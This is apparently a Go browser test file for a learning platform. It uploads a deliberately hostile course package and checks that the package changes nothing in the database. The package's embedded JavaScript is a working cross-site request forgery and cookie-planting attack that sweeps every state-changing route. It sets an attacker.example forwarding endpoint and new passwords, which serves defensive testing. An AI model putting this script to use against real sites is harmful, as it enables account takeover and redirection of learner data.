package server_test

import (
	"archive/zip"
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/reach-london/reach/client"
	"github.com/reach-london/reach/internal/browsertest"
	"github.com/reach-london/reach/internal/config"
	"github.com/reach-london/reach/internal/reachtest"
)

// hostileJS is the script of the hostile package. It reads its orders
// from config.json beside it and tries every unsafe route it is given
// against the app origin, as the signed-in person who opened it: with and
// without a CSRF token (one readable from document.cookie, else one it
// plants for the whole site where it can): by fetch in no-cors and cors
// mode with each body type, by form posts into hidden frames (the three
// form encodings in turn) and by top-level form navigations in pop-up
// windows. It then sets window.__hostile.
const hostileJS = `(async () => {
  const cfg = await (await fetch('config.json')).json();
  let token = '';
  for (const c of document.cookie.split(';')) {
    const i = c.indexOf('=');
    if (i > 0 && c.slice(0, i).trim().includes('reach_csrf')) token = c.slice(i + 1).trim();
  }
  const seen = document.cookie;
  if (cfg.plantDomain) {
    // A sibling subdomain may set cookies for the whole site; the old
    // double-submit check compared such a cookie with the query. Longer
    // paths are sent first, ahead of the app's own cookie.
    for (const path of ['/', '/api', '/admin', '/b'])
      document.cookie = 'reach_csrf=planted; domain=' + cfg.plantDomain + '; path=' + path;
    if (!token) token = 'planted';
  }
  const tokens = token ? ['', token] : [''];
  const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/json'];
  const withToken = (u, tok) => tok ? u + (u.includes('?') ? '&' : '?') + '_csrf=' + encodeURIComponent(tok) : u;
  const fields = (tok) => {
    const f = Object.assign({}, cfg.fields);
    if (tok) f._csrf = tok;
    return f;
  };
  const flat = (f) => Object.fromEntries(Object.entries(f).map(([k, v]) => [k, Array.isArray(v) ? v.join(' ') : String(v)]));
  const pool = async (items, n, fn) => {
    let i = 0;
    await Promise.all(Array.from({length: n}, async () => {
      while (i < items.length) {
        const it = items[i++];
        try { await fn(it); } catch (e) { /* refused or opaque: the server decides */ }
      }
    }));
  };
  const wait = (ms) => new Promise((r) => setTimeout(r, ms));
  const counts = {fetch: 0, frame: 0, top: 0};
  const started = Date.now();
  const times = {};
  const phase = (name) => { times[name] = Date.now() - started; window.__hostile = {done: false, phase: name, counts, times}; };
  phase('fetch');

  const fetches = [];
  for (const r of cfg.routes) for (const tok of tokens) for (const ct of types) for (const mode of ['no-cors', 'cors'])
    fetches.push({r, tok, ct, mode});
  await pool(fetches, 12, async ({r, tok, ct, mode}) => {
    const f = fields(tok);
    const headers = {};
    let body;
    if (ct === 'application/x-www-form-urlencoded') body = new URLSearchParams(flat(f));
    else if (ct === 'multipart/form-data') { body = new FormData(); for (const [k, v] of Object.entries(flat(f))) body.append(k, v); }
    else { body = JSON.stringify(f); headers['Content-Type'] = ct; }
    if (tok && mode === 'cors') headers['X-CSRF-Token'] = tok;
    counts.fetch++;
    await fetch(withToken(r.url, tok), {method: r.method, mode, credentials: 'include', headers, body});
  });

  phase('frames');
  const post = (r, tok, enctype, target) => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = withToken(r.url, tok);
    form.enctype = enctype;
    form.target = target;
    for (const [k, v] of Object.entries(flat(fields(tok)))) {
      const input = document.createElement('input');
      input.type = 'hidden'; input.name = k; input.value = v;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
    form.remove();
  };
  const frames = Array.from({length: 10}, (_, i) => {
    const f = document.createElement('iframe');
    f.name = 'hostile' + i; f.hidden = true;
    document.body.appendChild(f);
    return f;
  });
  // Every route with and without the token; the three form encodings
  // take turns (fetch above sent every route in each).
  const enctypes = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];
  const posts = [];
  cfg.routes.forEach((r, i) => tokens.forEach((tok, j) => posts.push({r, tok, enctype: enctypes[(i + j) % 3]})));
  let next = 0;
  await Promise.all(frames.map(async (frame) => {
    while (next < posts.length) {
      const p = posts[next++];
      const loaded = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 3000); });
      counts.frame++;
      post(p.r, p.tok, p.enctype, frame.name);
      await loaded;
    }
  }));

  phase('top-level');
  // Every route once, with the token when there is one.
  const tops = cfg.routes.map((r) => ({r, tok: token}));
  let t = 0;
  await Promise.all([0, 1, 2, 3, 4, 5, 6, 7].map(async (k) => {
    const name = 'top' + k;
    while (t < tops.length) {
      const p = tops[t++];
      const w = window.open('about:blank', name);
      if (!w) return;
      counts.top++;
      post(p.r, p.tok, 'application/x-www-form-urlencoded', name);
      // The pop-up is cross-origin once the answer has arrived.
      for (let i = 0; i < 150; i++) {
        try { void w.location.href; } catch (e) { break; }
        await wait(20);
      }
      w.close();
    }
  }));
  phase('end');
  window.__hostile = {done: true, counts, times, cookies: seen, token};
})();
`

// hostileZip is a Tin Can package whose only page runs hostileJS with
// cfg as its config.json.
func hostileZip(t *testing.T, cfg any) []byte {
	t.Helper()
	raw, err := json.Marshal(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range map[string]string{
		"tincan.xml": `<?xml version="1.0" encoding="utf-8"?>
<tincan xmlns="http://projecttincan.com/tincan.xsd"><activities>
<activity id="https://example.org/hostile/course" type="http://adlnet.gov/expapi/activities/course"><name>Hostile course</name></activity>
<activity id="https://example.org/hostile/lesson" type="http://adlnet.gov/expapi/activities/lesson"><name>Hostile lesson</name><launch lang="en-GB">index.html</launch></activity>
</activities></tincan>`,
		"index.html":  `<!doctype html><html lang="en"><title>Lesson</title><p>A perfectly ordinary lesson.</p><script src="hostile.js"></script></html>`,
		"hostile.js":  hostileJS,
		"config.json": string(raw),
	} {
		w, _ := zw.Create(name)
		w.Write([]byte(body))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

type hostileRoute struct {
	Method string `json:"method"`
	URL    string `json:"url"`
}

// unsafeRoutes lists every state-changing route of the app origin's JSON
// API, admin UI and portal from the router itself, with the path's
// parameters filled with real objects where there are some, so a request
// that got through would change something. Sign-out routes come last.
func unsafeRoutes(r *reachtest.Instance, base string, ids map[string]string) []hostileRoute {
	var out []hostileRoute
	seen := map[string]bool{}
	for _, rt := range r.Server.App().Routes() {
		switch rt.Method {
		case http.MethodPost, http.MethodPut, http.MethodPatch, http.MethodDelete:
		default:
			continue
		}
		if !(strings.HasPrefix(rt.Path, "/api/v1/") || strings.HasPrefix(rt.Path, "/admin/") || strings.HasPrefix(rt.Path, "/b/")) ||
			strings.HasPrefix(rt.Path, "/api/v1/scorm/") {
			continue // the rest takes no cookies (xAPI, OAuth, the player's launch-token API)
		}
		segs := strings.Split(rt.Path, "/")
		for i, s := range segs {
			if !strings.HasPrefix(s, ":") {
				continue
			}
			key := s
			if i > 0 {
				key = segs[i-1] + "/" + s
			}
			v, ok := ids[key]
			if !ok {
				v, ok = ids[s]
			}
			if !ok {
				v = "x"
			}
			segs[i] = url.PathEscape(v)
		}
		path := strings.Join(segs, "/")
		if seen[rt.Method+path] {
			continue
		}
		seen[rt.Method+path] = true
		out = append(out, hostileRoute{Method: rt.Method, URL: base + path})
	}
	last := func(h hostileRoute) bool {
		return strings.Contains(h.URL, "signout") || strings.Contains(h.URL, "logout")
	}
	sort.SliceStable(out, func(i, j int) bool { return !last(out[i]) && last(out[j]) })
	return out
}

// guardedTables are the tables whose rows must not change while the
// hostile package runs: everything an admin or learner could be tricked
// into changing.
var guardedTables = []string{"audit_log", "boroughs", "users", "sessions", "credentials", "invitations",
	"lrs_forward_targets", "dispatches", "dispatch_learners", "content_versions", "content_packages"}

// snapshot is every row of the guarded tables, rendered and sorted.
func snapshot(t *testing.T, db *sql.DB) map[string][]string {
	t.Helper()
	out := map[string][]string{}
	for _, table := range guardedTables {
		rows, err := db.Query("SELECT * FROM " + table)
		if err != nil {
			t.Fatalf("snapshot %s: %v", table, err)
		}
		cols, _ := rows.Columns()
		for rows.Next() {
			vals := make([]any, len(cols))
			ptrs := make([]any, len(cols))
			for i := range vals {
				ptrs[i] = &vals[i]
			}
			if err := rows.Scan(ptrs...); err != nil {
				t.Fatal(err)
			}
			var b strings.Builder
			for i, v := range vals {
				if bs, ok := v.([]byte); ok {
					v = string(bs)
				}
				fmt.Fprintf(&b, "%s=%v ", cols[i], v)
			}
			out[table] = append(out[table], b.String())
		}
		rows.Close()
		sort.Strings(out[table])
	}
	return out
}

func diffSnapshots(t *testing.T, what string, before, after map[string][]string) {
	t.Helper()
	for _, table := range guardedTables {
		b, a := before[table], after[table]
		if slices.Equal(a, b) {
			continue
		}
		var added, removed []string
		for _, row := range a {
			if !slices.Contains(b, row) {
				added = append(added, row)
			}
		}
		for _, row := range b {
			if !slices.Contains(a, row) {
				removed = append(removed, row)
			}
		}
		t.Errorf("%s changed %s:\n  new or changed: %s\n  gone or changed: %s", what, table,
			strings.Join(added, "\n    "), strings.Join(removed, "\n    "))
	}
}

// TestHostilePackageChangesNothing: a package whose script tries every
// unsafe route of the app origin (see hostileJS) is previewed by a
// signed-in platform admin and launched by a signed-in learner in
// Chromium, in the default layout (app on localhost, content on
// 127.0.0.1: two sites) and in a subdomain layout (app.reach.test and
// content.reach.test: one site, allowed only with
// REACH_ALLOW_SAME_SITE_CONTENT, here with plain-http development
// cookies). Afterwards the audit log, accounts, sessions, boroughs,
// credentials, invitations, forwarding targets, dispatches and course
// versions are exactly as before.
func TestHostilePackageChangesNothing(t *testing.T) {
	ctx := browsertest.Start(t, 8*time.Minute,
		chromedp.Flag("host-resolver-rules", "MAP *.reach.test 127.0.0.1"),
		chromedp.Flag("disable-popup-blocking", true),
		// The admin's and the learner's tabs run at once; neither may have
		// its timers throttled as a background page.
		chromedp.Flag("disable-background-timer-throttling", true), chromedp.Flag("disable-renderer-backgrounding", true),
		chromedp.Flag("disable-backgrounding-occluded-windows", true),
		// One renderer for all frames: site isolation changes no cookie or
		// Sec-Fetch-Site rule, but a process per cross-site frame makes the
		// hundreds of form posts slow.
		chromedp.Flag("disable-features", "IsolateOrigins,site-per-process"), chromedp.Flag("disable-site-isolation-trials", true))
	layouts := []struct {
		name        string
		app, cnt    string // host names; "" keeps reachtest's
		plantDomain string
	}{
		{name: "default layout"},
		{name: "subdomain layout", app: "app.reach.test", cnt: "content.reach.test", plantDomain: "reach.test"},
	}
	for _, l := range layouts {
		t.Run(l.name, func(t *testing.T) {
			cfg := reachtest.Config(t, reachtest.Backends()[0])
			if l.app != "" {
				_, ap, _ := net.SplitHostPort(cfg.Addr)
				_, cp, _ := net.SplitHostPort(cfg.ContentAddr)
				cfg.PublicURL, cfg.ContentURL = "http://"+net.JoinHostPort(l.app, ap), "http://"+net.JoinHostPort(l.cnt, cp)
				cfg.AllowSameSiteContent, cfg.InsecureDevCookies = true, true
			}
			r := reachtest.StartWith(t, cfg)
			runHostile(t, ctx, r, l.plantDomain)
		})
	}
}

func runHostile(t *testing.T, browser context.Context, r *reachtest.Instance, plantDomain string) {
	bg := context.Background()
	const slug = "london"
	app := r.Config.PublicURL
	admin := adminClient(t, r)
	const adminPassword = "plum kettle orbit river"
	if err := admin.Do(bg, http.MethodPost, "/api/v1/me/password", map[string]string{"current": r.AdminPassword, "new": adminPassword}, nil); err != nil {
		t.Fatal(err)
	}

	// Real objects for the routes' parameters.
	name, endpoint, version, authType, key, secret := "Existing LRS", "https://lrs.example.org/xapi/", "1.0.3", "basic", "key", "secret"
	target, err := admin.CreateForwarding(bg, slug, client.ForwardingInput{Name: &name, Endpoint: &endpoint, Version: &version,
		AuthType: &authType, AuthKey: &key, Secret: &secret})
	if err != nil {
		t.Fatal(err)
	}
	disp, err := admin.CreateDispatch(bg, slug, "Existing LMS", 0)
	if err != nil {
		t.Fatal(err)
	}
	cred, err := admin.CreateCredential(bg, slug, "Existing LMS key", "all")
	if err != nil {
		t.Fatal(err)
	}
	inv, err := admin.Invite(bg, slug, "invited@example.org")
	if err != nil {
		t.Fatal(err)
	}
	published, err := admin.CourseVersion(bg, slug, 1)
	if err != nil || len(published.Modules) == 0 {
		t.Fatalf("published course: %v", err)
	}
	module := published.Modules[0].Module

	// The learner signs up in a browser of their own.
	learnerTab, cancelLearner := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
	defer cancelLearner()
	run(t, learnerTab, chromedp.Navigate(app+"/b/"+slug+"/signup"),
		chromedp.SendKeys(chromedp.CSS("#f-name"), "Lena Learner"),
		chromedp.SendKeys(chromedp.CSS("#f-email"), "lena@example.org"),
		chromedp.SendKeys(chromedp.CSS("#f-password"), "a long enough password"),
		chromedp.Click(chromedp.CSS("#f-profession-gp")),
		chromedp.Click(chromedp.CSS(`button[type=submit]`)))
	until(t, learnerTab, "the sign-in page after sign-up", `location.pathname.endsWith("/signin")`)
	run(t, learnerTab,
		chromedp.SendKeys(chromedp.CSS("#f-email"), "lena@example.org"),
		chromedp.SendKeys(chromedp.CSS("#f-password"), "a long enough password"),
		chromedp.Click(chromedp.CSS(`button[type=submit]`)))
	until(t, learnerTab, "the learner's dashboard", `location.pathname.endsWith("/dashboard")`)
	learners, err := admin.Learners(bg, slug, client.LearnerQuery{})
	if err != nil || len(learners.Learners) == 0 {
		t.Fatalf("learners: %v %v", learners, err)
	}
	learnerID := learners.Learners[0].ID

	// The hostile package: previewed as itself, and put in module 1 of the
	// published course for the learner.
	ids := map[string]string{":borough": slug, ":slug": slug, "forwarding/:id": target.ID, "dispatches/:id": disp.ID,
		"credentials/:id": cred.ID, "learners/:id": learnerID, "invitations/:id": inv.ID, ":module": module,
		":number": "1", "registrations/:registration": "none", "invite/:token": "none"}
	fields := map[string]any{"slug": "evil", "name": "Evil", "email": "evil@example.org", "password": "an evil password",
		"current": adminPassword, "new": "an evil new password", "borough": slug,
		"endpoint": "https://attacker.example/xapi/", "version": "1.0.3", "authType": "basic", "authKey": "k", "secret": "s",
		"enabled": true, "backfill": true, "scopes": []string{"all"}, "learnerLimit": 0, "boroughName": "Evil borough",
		"profession": "artist", "reason": "Administrative", "module": module, "auId": "x", "from": 1, "confirm": "erase"}
	zipCfg := map[string]any{"routes": nil, "fields": fields, "plantDomain": plantDomain}
	pkg, err := admin.ImportPackage(bg, slug, bytes.NewReader(hostileZip(t, zipCfg)))
	if err != nil {
		t.Fatal(err)
	}
	ids["packages/:id"] = pkg.ID
	routes := unsafeRoutes(r, app, ids)
	if len(routes) < 60 {
		t.Fatalf("only %d unsafe routes found in the router", len(routes))
	}
	zipCfg["routes"] = routes
	pkg, err = admin.ImportPackage(bg, slug, bytes.NewReader(hostileZip(t, zipCfg)))
	if err != nil {
		t.Fatal(err)
	}
	preview, err := admin.PreviewPackage(bg, slug, pkg.ID, "")
	if err != nil {
		t.Fatal(err)
	}
	_, draft, err := admin.UploadModule(bg, slug, module, bytes.NewReader(hostileZip(t, zipCfg)))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := admin.Publish(bg, slug, draft.Number); err != nil {
		t.Fatal(err)
	}

	// The platform admin signs in to the admin pages in another browser.
	adminTab, cancelAdmin := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
	defer cancelAdmin()
	run(t, adminTab, chromedp.Navigate(app+"/admin/signin"),
		chromedp.SendKeys(chromedp.CSS(`input[name=email]`), r.AdminEmail),
		chromedp.SendKeys(chromedp.CSS(`input[name=password]`), adminPassword),
		chromedp.Submit(chromedp.CSS(`input[name=password]`)))
	until(t, adminTab, "the admin home page", `location.pathname === "/admin/"`)

	before := snapshot(t, r.App.DB.SQL)
	attack := func(who string, tab context.Context) {
		t.Helper()
		deadline := time.Now().Add(hostileTimeout)
		for time.Now().Before(deadline) {
			if done, err := chromedp.Run(tab, chromedp.Evaluate[bool](`!!(window.__hostile && window.__hostile.done)`)); err == nil && done {
				break
			}
			time.Sleep(200 * time.Millisecond)
		}
		res := js[map[string]any](t, tab, `window.__hostile || {}`)
		if res["done"] != true {
			loc := js[string](t, tab, `location.href + " " + (document.body ? document.body.innerText.slice(0, 200) : "")`)
			t.Fatalf("the hostile package did not finish for the %s: %v (page %s)", who, res, loc)
		}
		t.Logf("%s: the package sent %v, phases began at %v ms (cookies it could read: %q, token: %q)", who, res["counts"], res["times"], res["cookies"], res["token"])
		if c, _ := res["cookies"].(string); strings.Contains(c, "reach_session") {
			t.Errorf("the package read the %s's session cookie: %q", who, c)
		}
	}
	// The admin previews the package while the learner launches module 1
	// from the dashboard; the two scripts run at the same time.
	run(t, adminTab, chromedp.Navigate(preview.URL))
	run(t, learnerTab, chromedp.Navigate(app+"/b/"+slug+"/dashboard"))
	run(t, learnerTab, chromedp.Click(chromedp.CSS(`form[action$="/modules/`+module+`/launch"] button[type=submit]`)))
	until(t, learnerTab, "the hostile module", `location.href.startsWith(`+jsString(r.Config.ContentURL)+`)`)
	attack("platform admin", adminTab)
	attack("learner", learnerTab)
	time.Sleep(300 * time.Millisecond) // requests the server is still answering
	diffSnapshots(t, "the hostile package", before, snapshot(t, r.App.DB.SQL))

	// Both are still signed in: nothing signed them out either.
	run(t, adminTab, chromedp.Navigate(app+"/admin/"))
	if p := js[string](t, adminTab, `location.pathname`); p != "/admin/" {
		t.Errorf("the admin was signed out: now on %s", p)
	}
}

// hostileTimeout bounds one run of the hostile script.
const hostileTimeout = 3 * time.Minute

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestChromiumSecureCookies checks the cookie layouts config.SecureCookies
// assumes: Chromium keeps a Secure __Host- cookie set over plain HTTP by
// localhost and 127.0.0.1 (potentially trustworthy origins), and drops it
// from any other plain-HTTP host, which is why such a REACH_PUBLIC_URL
// needs REACH_INSECURE_DEV_COOKIES.
func TestChromiumSecureCookies(t *testing.T) {
	ctx := browsertest.Start(t, time.Minute, chromedp.Flag("host-resolver-rules", "MAP *.reach.test 127.0.0.1"))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == "/set" {
			http.SetCookie(w, &http.Cookie{Name: "__Host-probe", Value: "1", Path: "/", Secure: true, SameSite: http.SameSiteLaxMode})
		}
		_, probe := req.Cookie("__Host-probe")
		fmt.Fprintf(w, "<!doctype html><title>probe</title><p id=kept>%v</p>", probe == nil)
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	for _, host := range []string{"localhost", "127.0.0.1", "app.reach.test"} {
		base := "http://" + net.JoinHostPort(host, port)
		run(t, ctx, chromedp.Navigate(base+"/set"), chromedp.Navigate(base+"/check"))
		kept := js[string](t, ctx, `document.getElementById("kept").textContent`) == "true"
		c := config.Config{PublicURL: base}
		if kept != c.SecureCookies() {
			t.Errorf("%s: Chromium kept the Secure __Host- cookie: %v; config.SecureCookies: %v", base, kept, c.SecureCookies())
		}
		t.Logf("%s: Chromium keeps Secure __Host- cookies over plain HTTP: %v", base, kept)
	}
}
